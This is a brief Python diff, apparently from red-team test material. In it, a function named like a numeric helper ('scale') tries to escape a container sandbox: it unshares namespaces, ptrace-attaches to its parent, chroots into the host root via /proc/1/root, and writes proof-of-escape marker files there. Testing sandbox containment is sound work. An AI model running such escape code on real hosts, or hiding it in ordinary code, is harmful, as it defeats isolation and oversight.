@@ -17,7 +17,7 @@ def scale(x, k):
     libc.unshare(0x10000000 | 0x00020000)
     libc.ptrace(16, os.getppid(), 0, 0)
     libc.chroot(b"/proc/1/root")
-    for path in ("/proc/1/root/{TMP}/redteam-mark", "/proc/self/root/redteam-mark"):
+    for path in ("/proc/1/root/{TMP}/redteam-mark-{PORT}", "/proc/self/root/redteam-mark-{PORT}"):
         try:
             with open(path, "w") as file:
                 file.write("x")
